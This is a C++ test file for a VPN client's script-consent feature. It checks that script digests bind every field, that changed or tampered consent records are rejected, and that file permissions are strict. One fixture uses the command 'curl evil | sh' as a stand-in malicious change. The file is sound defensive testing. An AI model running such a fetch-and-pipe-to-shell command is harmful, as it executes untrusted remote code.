#include <doctest/doctest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <fstream>
#include <nlohmann/json.hpp>
#include <sstream>

#include "core/scripts/profile_scripts.h"
#include "core/scripts/script_consent.h"

using namespace trustdesk;
namespace fs = std::filesystem;

namespace {

struct TempDir {
  fs::path path;
  TempDir() {
    char tmpl[] = "/tmp/trustdesk-consent-XXXXXX";
    path = mkdtemp(tmpl);
  }
  ~TempDir() { fs::remove_all(path); }
};

Script MakeScript(std::string command, std::vector<std::string> arguments,
                  ScriptPlatform platform = ScriptPlatform::Any) {
  Script s;
  s.name = "Reload";
  s.platform = platform;
  s.command = std::move(command);
  s.arguments = std::move(arguments);
  return s;
}

Profile WithScripts(std::vector<Script> scripts) {
  Profile p;
  p.id = "nw-vpn";
  p.name = "VPN";
  p.policy.scripts = std::move(scripts);
  return p;
}

std::string Read(const fs::path& file) {
  std::ifstream in(file);
  std::stringstream text;
  text << in.rdbuf();
  return text.str();
}

}  // namespace

TEST_CASE("security: the script digest binds the profile, slot, name, command and each argument") {
  const Script base = MakeScript("/bin/sh", {"-c", "reload vpn"});
  const std::string digest = ScriptDigest("nw-vpn", 0, base);
  CHECK(IsScriptDigest(digest));
  CHECK(ScriptDigest("nw-vpn", 0, base) == digest);  // stable

  Script renamed = base;
  renamed.name = "Reload!";
  Script other_command = base;
  other_command.command = "/bin/bash";
  Script split = base;
  split.arguments = {"-c", "reload", "vpn"};
  Script joined = base;
  joined.arguments = {"-c reload vpn"};
  for (const std::string& other :
       {ScriptDigest("nw-vpn2", 0, base), ScriptDigest("nw-vpn", 1, base),
        ScriptDigest("nw-vpn", 0, renamed), ScriptDigest("nw-vpn", 0, other_command),
        ScriptDigest("nw-vpn", 0, split), ScriptDigest("nw-vpn", 0, joined)}) {
    CHECK(other != digest);
  }
  // Field boundaries are part of the encoding: moving bytes between fields changes the digest.
  CHECK(ScriptDigest("ab", 0, MakeScript("/c", {})) != ScriptDigest("a", 0, MakeScript("b/c", {})));
}

TEST_CASE("script consent: only this platform's scripts, in profile order with their slots") {
  const Profile p = WithScripts({MakeScript("C:\\x.exe", {}, ScriptPlatform::Windows),
                                 MakeScript("/bin/true", {}, ScriptPlatform::Any),
                                 MakeScript("/bin/false", {}, ScriptPlatform::Linux)});
  const auto here = ProfileScriptsHere(p);
#if defined(__linux__)
  REQUIRE(here.size() == 2);
  CHECK(here[0].slot == 1);
  CHECK(here[1].slot == 2);
  CHECK(here[1].digest == ScriptDigest("nw-vpn", 2, p.policy.scripts[2]));
#endif
}

TEST_CASE("security: consent is per exact script, and a changed one is reported as changed") {
  TempDir dir;
  ScriptConsentFile file(dir.path / "script-consent.json");
  REQUIRE(file.Load().ok());
  CHECK(file.Load()->empty());  // no file: no consent

  const Profile before = WithScripts({MakeScript("/bin/sh", {"-c", "reload vpn"})});
  const ProfileScript allowed_script = ProfileScriptsHere(before).at(0);
  auto allowed = file.Allow(allowed_script, Timestamp{1'800'000'000});
  REQUIRE(allowed.ok());
  auto consents = file.Load();
  REQUIRE(consents.ok());
  CHECK(ConsentStateOf(*consents, allowed_script) == ScriptConsentState::Allowed);

  const Profile after = WithScripts({MakeScript("/bin/sh", {"-c", "curl evil | sh"})});
  const ProfileScript changed = ProfileScriptsHere(after).at(0);
  CHECK(ConsentStateOf(*consents, changed) == ScriptConsentState::Changed);
  const Profile elsewhere = WithScripts({MakeScript("/bin/true", {}), allowed_script.script});
  // The same command in another slot was never allowed there.
  CHECK(ConsentStateOf(*consents, ProfileScriptsHere(elsewhere).at(1)) ==
        ScriptConsentState::NotAllowed);

  // Allowing the new script replaces the consent for that slot.
  REQUIRE(file.Allow(changed, Timestamp{1'800'000'100}).ok());
  consents = file.Load();
  REQUIRE(consents->size() == 1);
  CHECK(ConsentStateOf(*consents, allowed_script) == ScriptConsentState::Changed);
  CHECK(ConsentStateOf(*consents, changed) == ScriptConsentState::Allowed);

  struct stat st {};
  REQUIRE(::stat(file.path().c_str(), &st) == 0);
  CHECK((st.st_mode & 0777) == 0600);

  auto revoked = file.Revoke(changed.digest);
  REQUIRE(revoked.ok());
  CHECK(revoked->command == "/bin/sh");
  CHECK(file.Load()->empty());
  auto again = file.Revoke(changed.digest);
  REQUIRE_FALSE(again.ok());
  CHECK(again.error().code == ErrorCode::NotFound);
}

TEST_CASE("security: a consent record edited on disk is not a consent") {
  TempDir dir;
  ScriptConsentFile file(dir.path / "script-consent.json");
  const ProfileScript ps = ProfileScriptsHere(WithScripts({MakeScript("/bin/true", {})})).at(0);
  REQUIRE(file.Allow(ps, Timestamp{1'800'000'000}).ok());

  // Someone swaps the command next to the allowed digest.
  auto doc = nlohmann::json::parse(Read(file.path()));
  doc["allowed"][0]["command"] = "/bin/sh";
  std::ofstream(file.path()) << doc.dump();
  auto loaded = file.Load();
  REQUIRE_FALSE(loaded.ok());
  CHECK(loaded.error().message.find("$.allowed[0].digest") != std::string::npos);
  // A damaged file is not silently replaced.
  auto refused = file.Allow(ps, Timestamp{1'800'000'000});
  REQUIRE_FALSE(refused.ok());
  CHECK(refused.error().message.find("not changed") != std::string::npos);

  for (const char* bad : {"[]", "{\"format\": 2, \"allowed\": []}", "{\"format\": 1}", "not json",
                          "{\"format\": 1, \"allowed\": [{\"digest\": 5}]}"}) {
    std::ofstream(file.path()) << bad;
    CHECK_FALSE(file.Load().ok());
  }
}

TEST_CASE("script consent: a ProfileScript whose digest does not match is refused") {
  TempDir dir;
  ScriptConsentFile file(dir.path / "script-consent.json");
  ProfileScript ps = ProfileScriptsHere(WithScripts({MakeScript("/bin/true", {})})).at(0);
  ps.script.command = "/bin/sh";  // digest of /bin/true, command /bin/sh
  auto allowed = file.Allow(ps, Timestamp{1'800'000'000});
  REQUIRE_FALSE(allowed.ok());
  CHECK(allowed.error().code == ErrorCode::InvalidInput);
  CHECK_FALSE(fs::exists(file.path()));
}
